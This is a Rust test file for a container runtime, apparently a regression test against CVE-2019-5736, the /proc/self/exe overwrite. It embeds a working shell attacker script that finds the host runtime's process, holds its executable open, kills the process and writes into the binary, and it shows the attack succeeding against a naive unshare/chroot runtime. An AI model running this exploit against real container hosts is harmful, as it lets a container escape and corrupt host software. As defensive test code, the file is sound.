//! Overwriting the runtime through /proc/self/exe (CVE-2019-5736).
//!
//! The attacker waits in the container for a process that runs a program of the host, opens that
//! program through /proc/PID/exe for reading, ends the process, and opens what it holds for
//! writing.

use std::{
    fs,
    io::Write,
    os::unix::fs::symlink,
    path::{Path, PathBuf},
    process::{Child, Command, Stdio},
};

use serde_json::json;
use syscalls::Sysno;
use testbed::needs;

use super::{
    Stage, program,
    scene::{Act, Moment, Scene, Setting},
    stage,
    tracer::Then,
    written,
};

/// Holds a program that is not the image's own, and writes to it when nobody runs it any more.
const ATTACKER: &str = r#"#!/bin/sh
holds() {
    for p in /proc/[0-9]*; do
        [ "$(stat -L -c %s $p/exe 2>/dev/null)" = "$(cat /size)" ] || continue
        true 2>/dev/null <$p/exe || continue
        exec 9<$p/exe
        echo "${p#/proc/}" >/held
        return 0
    done
    return 1
}
echo ready >/ready
until holds; do :; done
kill -KILL "$(cat /held)"
try=0
while [ $try -lt 50 ]; do
    said=$( (echo overwritten >/proc/self/fd/9) 2>&1 ) && said=overwritten
    case "$said" in *busy*) ;; *) break;; esac
    try=$((try + 1)); sleep 0.1
done
echo "$said" >/said.new; mv /said.new /said
sleep 1000
"#;

/// A copy of the program, so that an attack that succeeds spoils nothing but the test. Its size
/// tells the attacker, who must take no other, which one it is.
pub fn copy(stage: &Stage, program: &str) -> PathBuf {
    let copy = stage.dir.path().join("busybox-or-not");
    fs::copy(program, &copy).unwrap();
    let mut file = fs::OpenOptions::new().append(true).open(&copy).unwrap();
    file.write_all(b"a size of its own").unwrap();
    let size = fs::metadata(&copy).unwrap().len();
    fs::write(stage.bundle().join("rootfs/size"), size.to_string()).unwrap();
    copy
}

/// Brings the libraries of a program along, as an attacker's image does for the host's.
pub fn libraries(program: &Path, rootfs: &Path) {
    let listed = Command::new("ldd").arg(program).output().unwrap();
    for word in String::from_utf8(listed.stdout).unwrap().split_whitespace() {
        if let (true, Some(parent)) = (word.starts_with('/'), Path::new(word).parent()) {
            let to = rootfs.join(word.trim_start_matches('/'));
            fs::create_dir_all(rootfs.join(parent.strip_prefix("/").unwrap())).unwrap();
            fs::copy(word, to).unwrap();
        }
    }
}

/// What the attacker's image holds: the attacker, and programs that are the runtime again. A fifo
/// for a config.json keeps it running.
fn furnish(stage: &Stage, runtime: &Path) {
    let rootfs = stage.bundle().join("rootfs");
    libraries(runtime, &rootfs);
    program(stage, "attacker", ATTACKER);
    program(stage, "script", "#!/proc/self/exe create\n");
    symlink("/proc/self/exe", rootfs.join("link")).unwrap();
    fs::create_dir(rootfs.join("b")).unwrap();
    nix::unistd::mkfifo(&rootfs.join("b/config.json"), nix::sys::stat::Mode::S_IRWXU).unwrap();
}

fn spawn(program: &Path, stage: &Stage, args: &[&str]) -> Child {
    let mut command = Command::new(program);
    command.arg("--root").arg(stage.state_root()).args(args).stdin(Stdio::null());
    command.stdout(Stdio::null()).stderr(Stdio::null()).spawn().unwrap()
}

/// Runs the attack with this victim, and returns what the attacker was told, and whether the
/// runtime is still what it was.
fn attack(victim: &[&str]) -> (String, bool) {
    let stage = stage();
    let runtime = copy(&stage, stage.runtime.name());
    furnish(&stage, &runtime);
    stage.configure(|config| config["process"]["args"] = json!(["/attacker"]));
    let before = fs::read(&runtime).unwrap();
    let rootfs = stage.bundle().join("rootfs");
    let bundle = stage.bundle();
    let run = ["run", "-d", "-b", bundle.to_str().unwrap(), &stage.id];
    assert!(spawn(&runtime, &stage, &run).wait().unwrap().success());
    written(&rootfs.join("ready"));
    let args = [&["exec", &stage.id], victim].concat();
    let mut exec = spawn(&runtime, &stage, &args);
    let said = written(&rootfs.join("said"));
    exec.wait().unwrap();
    (said, fs::read(&runtime).unwrap() == before)
}

/// A program that enters a root file system, and leaves its own file to whoever is in there.
fn attack_a_naive_runtime() -> (String, bool) {
    let stage = stage();
    let naive = copy(&stage, "/bin/busybox");
    program(&stage, "attacker", ATTACKER);
    let rootfs = stage.bundle().join("rootfs");
    symlink("/proc/self/exe", rootfs.join("busybox-link")).unwrap();
    let script = "mount -t proc proc \"$1/proc\"; chroot \"$1\" /attacker & \
                  sleep 1; \
                  \"$2\" chroot \"$1\" /busybox-link sleep 10; sleep 1";
    let mut unshare = Command::new("unshare");
    unshare.args(["-m", "-p", "-f", "--kill-child", "sh", "-c", script, "sh"]);
    let before = fs::read(&naive).unwrap();
    let mut naive_runtime = unshare.arg(&rootfs).arg(&naive).stderr(Stdio::null()).spawn().unwrap();
    let said = written(&rootfs.join("said"));
    naive_runtime.kill().unwrap();
    naive_runtime.wait().unwrap();
    (said, fs::read(&naive).unwrap() == before)
}

#[test]
fn nobody_overwrites_the_runtime_through_proc_self_exe() {
    needs!(Root, Program("busybox"), Program("unshare"));
    let (said, same) = attack_a_naive_runtime();
    assert!(said.trim() == "overwritten" && !same, "the attack must be able to succeed: {said}");
    let victims: [&[&str]; 3] = [
        &["/link", "create", "-b", "/b", "x"],
        &["/proc/self/exe", "create", "-b", "/b", "x"],
        &["/script", "-b", "/b"],
    ];
    for victim in victims {
        let (said, same) = attack(victim);
        assert!(said.contains("Read-only file system"), "{victim:?}: {said}");
        assert!(same, "{victim:?}");
    }
    println!("/proc/self/exe: 1 naive runtime overwritten, {} attacks failed", victims.len());
}

#[test]
fn the_second_beginning_is_asked_for_before_the_c_library_has_made_a_call() {
    needs!(Root, Program("busybox"));
    let scene = Scene::before(Act { setting: Setting::Plain, moment: Moment::Create });
    let mut before = None;
    let ended = scene.trace(&mut |call| {
        if call.process == 0 && call.name == Sysno::execveat {
            before.get_or_insert(call.since_exec);
        }
        Then::Go
    });
    scene.delete_force();
    assert_eq!(ended.code, 0);
    assert_eq!(before, Some(3), "access, open_tree and mount_setattr");
}
